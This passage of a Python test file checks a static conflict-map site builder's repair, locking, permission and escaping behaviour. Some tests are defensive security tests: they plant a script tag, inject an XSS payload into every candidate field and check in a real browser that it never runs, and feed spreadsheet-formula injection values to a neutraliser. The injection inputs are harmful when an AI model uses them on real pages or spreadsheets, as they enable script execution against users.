    (site / "maps" / "2024-01-01.html").write_text("<script>planted</script>", encoding="utf-8")
    result = cli("--data", mini_template, "build", "--out", site)
    assert result.exit_code == 0, result.output
    assert "repairing" in result.output and "maps/latest.html is missing" in result.output
    assert "index.html was changed" in result.output
    assert "repaired 3 file(s)" in result.output  # index.html, the dated CSV and latest.html
    assert snapshot(site) == built  # repaired, and the planted page is not carried over
    assert "up to date" in cli("--data", mini_template, "build", "--out", site).output


def test_a_site_hidden_by_a_killed_swap_is_restored_and_leftovers_removed(built_site, tmp_path, cli, mini_template):
    site_copy = tmp_path / "site"
    shutil.copytree(built_site, site_copy)
    built = snapshot(site_copy)
    # As a kill between the two renames of the swap leaves it: --out gone, the old site hidden.
    hidden = tmp_path / ".site.old-abc123"
    hidden.mkdir()
    site_copy.rename(hidden / "site")
    (tmp_path / ".site.build-dead1" / "maps").mkdir(parents=True)
    (tmp_path / ".site.build-dead1" / "maps" / "x.html").write_text("half", encoding="utf-8")
    result = cli("--data", mini_template, "build", "--out", site_copy)
    assert result.exit_code == 0, result.output
    assert "restored the previous site" in result.output
    assert "removed .site.build-dead1" in result.output
    assert sorted(p.name for p in tmp_path.iterdir()) == ["site"]
    assert snapshot(site_copy) == built


def test_two_builds_into_one_folder_cannot_both_run(built_site, tmp_path, cli, mini_template):
    site_copy = tmp_path / "site"
    shutil.copytree(built_site, site_copy)
    before = snapshot(site_copy)
    fd = os.open(tmp_path / ".site.lock", os.O_RDWR | os.O_CREAT)
    try:
        fcntl.flock(fd, fcntl.LOCK_EX)  # as a running build holds it
        data = tmp_path / "data"
        shutil.copytree(mini_template, data)
        append(data, "claims.csv")  # an input changed: this build would run
        result = cli("--data", data, "build", "--out", site_copy)
    finally:
        os.close(fd)
    assert result.exit_code != 0
    assert "another build into" in result.output and "is running" in result.output
    assert snapshot(site_copy) == before


def test_the_site_and_the_geopackages_honour_the_umask(mini_template, tmp_path, cli):
    old = os.umask(0o027)
    try:
        result = cli("--data", mini_template, "build", "--out", tmp_path / "site")
        export = cli(
            "--data", mini_template, "export", "--date", "all", "--format", "gpkg", "--out", tmp_path / "t.gpkg"
        )
    finally:
        os.umask(old)
    assert result.exit_code == 0 and export.exit_code == 0
    assert (tmp_path / "site").stat().st_mode & 0o777 == 0o750
    assert (tmp_path / "site" / "downloads" / "2024-12-01.gpkg.zip").stat().st_mode & 0o777 == 0o640
    assert (tmp_path / "t.gpkg").stat().st_mode & 0o777 == 0o640
    assert read_manifest(tmp_path / "site")["files"]
    assert (tmp_path / "site" / MANIFEST).exists()


def test_leftovers_of_a_killed_build_are_removed_even_when_the_site_is_up_to_date(
    built_site, tmp_path, cli, mini_template
):
    site_copy = tmp_path / "site"
    shutil.copytree(built_site, site_copy)
    built = snapshot(site_copy)
    (tmp_path / ".site.build-dead2" / "maps").mkdir(parents=True)
    (tmp_path / ".site.build-dead2" / "maps" / "x.html").write_text("half", encoding="utf-8")
    result = cli("--data", mini_template, "build", "--out", site_copy)
    assert result.exit_code == 0, result.output
    assert "up to date" in result.output and "removed .site.build-dead2" in result.output
    assert sorted(p.name for p in tmp_path.iterdir()) == ["site"]  # no leftover, no lock file
    assert snapshot(site_copy) == built


def test_a_repair_hashes_each_file_once_and_reuses_the_digests_of_linked_files(
    mini_template, tmp_path, cli, monkeypatch
):
    from aleppo_map import buildinfo

    site = tmp_path / "site"
    assert cli("--data", mini_template, "build", "--out", site).exit_code == 0
    built = snapshot(site)
    (site / "maps" / "latest.html").unlink()
    hashed: list[Path] = []
    digest = buildinfo._digest
    monkeypatch.setattr(buildinfo, "_digest", lambda path: hashed.append(Path(path)) or digest(path))
    result = cli("--data", mini_template, "build", "--out", site)
    assert result.exit_code == 0, result.output
    assert "repaired 1 file(s) missing or changed since the last build: maps/latest.html" in result.output
    assert snapshot(site) == built
    old = [p for p in hashed if p.is_relative_to(site)]
    new = [p.name for p in hashed if not p.is_relative_to(site)]
    # The previous site (every file but the manifest and the deleted page): verified once, not twice.
    assert len(old) == len(set(old)) == len(built) - 2
    assert "2024-11-26.html" not in new and "2024-11-26.gpkg.zip" not in new  # reused dates: linked, not hashed
    assert "latest.html" in new and "index.html" in new  # written by this build: hashed


def test_the_scenario_command_can_rewrite_its_own_folder_but_no_other_dataset(mini_template, tmp_path, cli):
    out = tmp_path / "syria-year"
    args = ("scenario", "--out", out, "--claims", "1000", "--days", "2")
    first = cli("--data", mini_template, *args)
    assert first.exit_code == 0, first.output
    claims = (out / "claims.csv").read_bytes()
    again = cli("--data", mini_template, *args)  # the README's command, run a second time
    assert again.exit_code == 0, again.output
    assert (out / "claims.csv").read_bytes() == claims  # same seed, same scenario
    assert cli("--data", out, "validate").exit_code == 0
    # A scenario folder is still a dataset for every other command, and for a scenario made from it.
    before = snapshot(out)
    own = cli("--data", out, *args)
    assert own.exit_code != 0 and "lies inside the data folder" in own.output
    site = cli("--data", mini_template, "build", "--out", out / "site")
    assert site.exit_code != 0 and "lies inside the data folder" in site.output
    other = tmp_path / "other"
    shutil.copytree(mini_template, other)
    refused = cli("--data", mini_template, "scenario", "--out", other, "--claims", "1000", "--days", "2")
    assert refused.exit_code != 0 and "lies inside the data folder" in refused.output
    assert snapshot(out) == before


def _unreadable(path: Path, monkeypatch) -> None:
    """Make a file unreadable: chmod 000, or (root reads anything) a read that fails as it would."""
    if os.geteuid() != 0:
        path.chmod(0)
        return
    real = Path.read_bytes
    target = path.resolve()

    def read_bytes(self):
        if self.resolve() == target:
            raise PermissionError(13, "Permission denied", str(self))
        return real(self)

    monkeypatch.setattr(Path, "read_bytes", read_bytes)


def test_an_unreadable_data_file_is_named_not_a_traceback(data, tmp_path, cli, monkeypatch):
    _unreadable(data / "claims.csv", monkeypatch)
    try:
        build = cli("--data", data, "build", "--out", tmp_path / "site")
        validate = cli("--data", data, "validate")
    finally:
        (data / "claims.csv").chmod(0o644)
    assert build.exit_code != 0 and validate.exit_code != 0
    assert "cannot read" in build.output and "claims.csv: Permission denied" in build.output
    assert "claims.csv: cannot be read: Permission denied" in validate.output
    assert "Traceback" not in build.output + validate.output
    assert not (tmp_path / "site").exists()


def test_a_byte_order_mark_in_the_attribution_never_reaches_a_page(mini_template, tmp_path, cli):
    data = tmp_path / "data"
    shutil.copytree(mini_template, data)
    path = data / "ATTRIBUTION.txt"
    path.write_bytes(b"\xef\xbb\xbf" + path.read_bytes())
    assert cli("--data", data, "validate").exit_code == 0
    result = cli("--data", data, "build", "--out", tmp_path / "site")
    assert result.exit_code == 0, result.output
    for page in ("index.html", "sources.html", "maps/latest.html"):
        assert "\ufeff" not in (tmp_path / "site" / page).read_text(encoding="utf-8"), page


def test_reading_the_umask_never_changes_it(monkeypatch):
    from aleppo_map import files

    if not Path("/proc/self/status").exists():
        pytest.skip("no /proc: the umask is read once per process instead")
    old = os.umask(0o027)
    try:
        monkeypatch.setattr(os, "umask", lambda mask: pytest.fail("the umask was set to read it"))
        assert files.umask() == 0o027 and files.file_mode() == 0o640 and files.dir_mode() == 0o750
    finally:
        monkeypatch.undo()
        os.umask(old)


def test_validation_and_the_build_read_each_boundaries_file_once(mini_template, monkeypatch):
    import geopandas as gpd

    from aleppo_map.dataset import Dataset

    reads: list[str] = []
    real = gpd.read_file
    monkeypatch.setattr(gpd, "read_file", lambda src, *a, **k: reads.append(str(src)) or real(src, *a, **k))
    ds = Dataset.load(mini_template)
    assert ds.country() is not None and ds.place_polygons() is not None  # what the build draws
    assert len(reads) == len(list((mini_template / "boundaries").glob("*.geojson")))


def test_a_data_folder_is_recognised_by_the_tables_that_define_a_dataset(tmp_path):
    from aleppo_map.claims import CLAIMS, SIDES
    from aleppo_map.files import data_folder_of
    from aleppo_map.gazetteer import PLACES

    for table in (PLACES, CLAIMS, SIDES):
        folder = tmp_path / table.filename.replace(".", "-")
        folder.mkdir()
        (folder / table.filename).write_text("id\n", encoding="utf-8")
        assert data_folder_of(folder / "out.csv") == folder.resolve()
    assert data_folder_of(tmp_path / "out.csv") is None


# a hostile candidates file, through build --include, in a real browser ------------------------------
@pytest.mark.browser
def test_injected_script_in_candidate_fields_never_runs_on_the_built_pages(tmp_path, cli):
    from aleppo_map.browser import CHROMIUM_ARGS as ARGS
    from aleppo_map.browser import chromium_path
    from tests.browser.test_browser import ATTACK, Page

    CHROMIUM = chromium_path()

    playwright = pytest.importorskip("playwright.sync_api")
    if not Path(CHROMIUM).exists():
        pytest.skip("Debian's chromium is not installed (.ci/run installs it with apt-get)")
    data = tmp_path / "tinywar"
    shutil.copytree(Path(__file__).parent / "fixtures" / "tinywar", data)
    # Every text field of a candidate that can reach a page or a download carries the attack.
    cands = write_candidates(
        tmp_path / "c.csv",
        {
            "id": "cand-x-001",
            "place_id": "zenda",
            "side": "red",  # the Crown takes Zenda back: the candidate decides the latest state
            "about_date": "2020-03-01",
            "published": "2020-03-02",
            "outlet": "gazette",
            "claimant": "monitor",
            "quote": ATTACK,
            "origin": ATTACK,
            "note": ATTACK,
            "cue": ATTACK,
            "place_text": ATTACK,
        },
    )
    result = cli("--data", data, "build", "--out", tmp_path / "site", "--include", cands)
    assert result.exit_code == 0, result.output
    site = tmp_path / "site"
    with playwright.sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=ARGS)
        try:
            for path in [site / "index.html", site / "sources.html", *sorted((site / "maps").glob("*.html"))]:
                page = Page(browser, path)
                if path.parent.name == "maps":
                    page.page.evaluate(
                        "(() => { AM.state.map.eachLayer(l => { if (l.getPopup && l.getPopup()) l.openPopup();"
                        " if (l.getTooltip && l.getTooltip()) l.openTooltip(); }); })()"
                    )
                    page.page.wait_for_timeout(200)
                assert page.page.evaluate("window.__pwned") is None, path.name
                assert page.errors == [] and page.requests == [], (path.name, page.errors, page.requests)
                page.close()
            latest = Page(browser, site / "maps" / "latest.html")
            latest.page.evaluate("AM.state.places['zenda'].openPopup()")
            text = latest.page.inner_text(".leaflet-popup-content")
            assert "cand-x-001" in text and "<img src=x" in text  # the candidate's quote, shown as text
            assert latest.page.evaluate("window.__pwned") is None
            latest.close()
        finally:
            browser.close()
    import zipfile

    for kml in (
        zipfile.ZipFile(sorted((site / "downloads").glob("20*.kmz"))[-1]).read("doc.kml").decode("utf-8"),
        zipfile.ZipFile(site / "downloads" / "timeline.kmz").read("doc.kml").decode("utf-8"),
    ):
        assert "<img src=x" not in kml and "<script>" not in kml


@pytest.mark.parametrize(
    "value",
    ["=1+2", "+31 6", "-5 killed", "@SUM(A1)", "\tx", "\rx", "'=x", "''-y", "'plain", "plain", "", "'"],
)
def test_spreadsheet_neutralisation_shows_formulas_as_text_and_reads_back_exactly(value):
    from aleppo_map.escape import FORMULA_STARTS, from_spreadsheet_cell, spreadsheet_cell

    cell = spreadsheet_cell(value)
    assert not cell.startswith(FORMULA_STARTS)
    assert from_spreadsheet_cell(cell) == value
    assert spreadsheet_cell(-5.0) == -5.0
